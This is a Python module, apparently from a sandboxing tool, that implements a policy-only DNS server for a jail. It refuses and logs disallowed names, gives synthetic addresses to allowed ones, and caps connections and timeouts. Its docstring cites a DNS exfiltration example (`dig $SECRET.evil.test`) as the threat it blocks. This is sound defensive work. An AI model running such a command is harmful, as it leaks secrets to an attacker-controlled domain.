"""DNS inside the jail: answered from the policy alone.

No query ever leaves, so a name cannot carry data out (`dig $SECRET.evil.test`). A name that the policy could
allow gets an address that stands for it; of every other name we say that it does not exist, and put it on record.
To say that we refuse would be more to the point, but programs take that for a server in trouble and try again.
"""

from __future__ import annotations

import asyncio
import logging
import socket
from collections.abc import Callable, Sequence
from ipaddress import IPv4Address, IPv6Address
from typing import Final, cast

from exeat.errors import HostError
from exeat.gateway.doors.synthetic import SyntheticNames
from exeat.gateway.record.records import DNS, Denials
from exeat.gateway.state import State
from exeat.policy import Decision, Name, Reason, canonical_host
from exeat.policy.decide import could_allow, unreachable
from exeat.wire.dns import (
    CLASS_IN,
    MAX_QUERY_BYTES,
    Answer,
    DnsError,
    QType,
    Query,
    Rcode,
    encode_answer,
    encode_error,
    parse_query,
    parse_reverse,
    type_name,
)

_log = logging.getLogger("exeat")

# Short, so that programs which heed it come back here; the address stays good for much longer (GRACE_S).
TTL_S: Final = 60
PORT: Final = 53
_LOCALHOST: Final = (IPv4Address("127.0.0.1"), IPv6Address("::1"))
_NOT_LISTED: Final = Decision(None, Reason.NOT_LISTED)

MAX_CONNECTIONS: Final = 64
MAX_QUERIES: Final = 128  # of one connection
_QUERIES_A_TURN: Final = 4  # then the other connections have theirs
# For a whole query to come, and for its answer to be taken. Single bytes put nothing off (slowloris).
IDLE_S: Final = 10.0
_BUFFER_BYTES: Final = 16 * 1024

Outcome = tuple[Rcode, tuple[Answer, ...]]


class DnsDoor:
    """Answers DNS queries. It must never resolve anything, nor give out an address of a name that is not allowed."""

    def __init__(self, state: State, names: SyntheticNames) -> None:
        self._state = state
        self._names = names
        self._denials = Denials(state.records, state.loop)
        self._sockets: list[asyncio.DatagramTransport] = []
        self._servers: list[asyncio.Server] = []
        self._streams: dict[asyncio.StreamWriter, asyncio.Task[None]] = {}
        self._is_closed = False

    # Sockets

    async def start(self, udp: Sequence[socket.socket], tcp: Sequence[socket.socket]) -> None:
        """Answer on these bound sockets, of whatever network namespace. They are the door's from here on."""
        loop = self._state.loop
        try:
            for sock in udp:
                await loop.create_datagram_endpoint(lambda: _Datagrams(self._respond, self._take), sock=sock)
            for sock in tcp:
                server = await asyncio.start_server(self._serve_stream, sock=sock, limit=_BUFFER_BYTES)
                self._servers.append(server)
        except BaseException:
            await self.close()
            for sock in (*udp, *tcp):
                sock.close()
            raise

    def _take(self, transport: asyncio.DatagramTransport) -> None:
        """As soon as there is one: uvloop does not close what a cancelled `create_datagram_endpoint` has begun."""
        if self._is_closed:
            transport.close()
        else:
            self._sockets.append(transport)

    async def close(self) -> None:
        """Stop answering, cut what is open, and put the last repeats on record. The journal must still be open."""
        self._is_closed = True
        for transport in self._sockets:
            transport.close()
        for server in self._servers:
            server.close()
        for writer in self._streams:
            writer.transport.abort()
        if self._streams:
            await asyncio.wait(self._streams.values())
        self._sockets.clear()
        self._servers.clear()
        self._denials.close()
        await asyncio.sleep(0)  # transports let go of their sockets in the next turn of the loop

    async def _serve_stream(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """One TCP connection."""
        task = asyncio.current_task()
        if task is None or self._is_closed or len(self._streams) >= MAX_CONNECTIONS:
            writer.transport.abort()
            return
        self._streams[writer] = task
        try:
            await self._answer_stream(reader, writer)
            async with asyncio.timeout(IDLE_S):  # a close still sends what was written
                writer.close()
                await writer.wait_closed()
        except OSError:  # also when the time is over
            pass
        finally:
            writer.transport.abort()
            del self._streams[writer]

    async def _answer_stream(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Messages with two bytes of length before each (RFC 1035 section 4.2.2), until one makes no sense."""
        writer.transport.set_write_buffer_limits(high=_BUFFER_BYTES)
        for number in range(1, MAX_QUERIES + 1):
            async with asyncio.timeout(IDLE_S):
                try:
                    size = int.from_bytes(await reader.readexactly(2))
                    # No query of ours is longer, and it is not worth the memory to be sure.
                    data = await reader.readexactly(size) if size <= MAX_QUERY_BYTES else b""
                except asyncio.IncompleteReadError:
                    return
                reply = self._respond(data, tcp=True) if data else None
                if reply is None:
                    return
                writer.write(len(reply).to_bytes(2) + reply)
                await writer.drain()  # no more questions are read before there is room for answers
            if number % _QUERIES_A_TURN == 0:
                await asyncio.sleep(0)

    def _respond(self, data: bytes, *, tcp: bool) -> bytes | None:
        try:
            return self.answer(data, tcp=tcp)
        except Exception:
            # A defect of ours. Silence is safe; an exception here could end the socket for everybody.
            self._state.counters.internal_errors += 1
            _log.exception("a DNS query could not be answered")
            return None

    # Rules

    def answer(self, data: bytes, *, tcp: bool) -> bytes | None:
        """The answer to one message. None: there must be none."""
        try:
            query = parse_query(data)
        except DnsError as error:
            if error.rcode is not None:
                self._denials.add(DNS, "", PORT, "", Reason.MALFORMED, note=error.public)
            return encode_error(error)
        return encode_answer(query, *self._judge(query), tcp=tcp)

    def _judge(self, query: Query) -> Outcome:
        if query.qclass != CLASS_IN:
            return self._refuse(query, _NOT_LISTED, note=f"class {query.qclass}")
        if query.qtype == QType.PTR:
            return self._judge_reverse(query)
        name = _name_of(query)
        if name is None:
            return self._refuse(query, _NOT_LISTED, note="not a host name")
        if name.text == "localhost" or name.text.endswith(".localhost"):  # RFC 6761: it is never looked up
            return _give(query, _LOCALHOST)
        policy = self._state.policy  # of this moment: it may be swapped between two queries
        if not could_allow(policy, name):
            denial = unreachable(policy, name)
            if self._state.questions is None or not self._state.questions.may_ask(denial):
                return self._refuse(query, denial)
            # A person may allow it, but only a connection is worth a question. Until then nothing leaves.
        if query.qtype not in (QType.A, QType.AAAA):
            return Rcode.NOERROR, ()  # the name is there, and has nothing of this type
        addresses = self._names.addresses(name.text)
        if addresses is None:
            self._denials.add(DNS, name.text, PORT, type_name(query.qtype), Reason.NO_ADDRESS_LEFT)
            return Rcode.SERVFAIL, ()
        return _give(query, addresses)

    def _judge_reverse(self, query: Query) -> Outcome:
        """Which name an address has. Only our own addresses have one; other questions can carry data, so they count."""
        ip = parse_reverse(query.name)
        name = None if ip is None else "localhost" if ip in _LOCALHOST else self._names.name_of(ip)
        if name is None:
            return self._refuse(query, _NOT_LISTED)
        return Rcode.NOERROR, (Answer(name, TTL_S),)

    def _refuse(self, query: Query, decision: Decision, note: str = "") -> Outcome:
        reason, rule = decision.reason, decision.rule_text
        self._denials.add(DNS, query.name, PORT, type_name(query.qtype), reason, rule=rule, note=note)
        return Rcode.NXDOMAIN if query.qclass == CLASS_IN else Rcode.REFUSED, ()


def _name_of(query: Query) -> Name | None:
    """The name as the policy knows it. What reads as an address is no name, and must not be looked up as one."""
    if not query.plain:
        return None
    try:
        host = canonical_host(query.name)
    except HostError:
        return None
    return host if isinstance(host, Name) else None


def _give(query: Query, addresses: tuple[IPv4Address, IPv6Address]) -> Outcome:
    """The address of the family that was asked for; nothing for any other type."""
    match query.qtype:
        case QType.A:
            return Rcode.NOERROR, (Answer(addresses[0], TTL_S),)
        case QType.AAAA:
            return Rcode.NOERROR, (Answer(addresses[1], TTL_S),)
        case _:
            return Rcode.NOERROR, ()


class _Datagrams(asyncio.DatagramProtocol):
    """One UDP socket. `respond` must never raise."""

    def __init__(self, respond: Callable[..., bytes | None], made: Callable[[asyncio.DatagramTransport], None]) -> None:
        self._respond = respond
        self._made = made
        self._paused = False
        self._transport: asyncio.DatagramTransport | None = None

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self._transport = cast("asyncio.DatagramTransport", transport)  # uvloop's is one in all but name
        self._made(self._transport)

    def datagram_received(self, data: bytes, addr: tuple[str, int]) -> None:
        if self._transport is None or self._paused:
            return  # answers pile up: losing one is what UDP does, and clients ask again
        reply = self._respond(data, tcp=False)
        if reply is not None:
            self._transport.sendto(reply, addr)

    def error_received(self, exc: Exception) -> None:
        """A client did not wait for its answer. That is no error of this socket."""

    def pause_writing(self) -> None:
        self._paused = True

    def resume_writing(self) -> None:
        self._paused = False
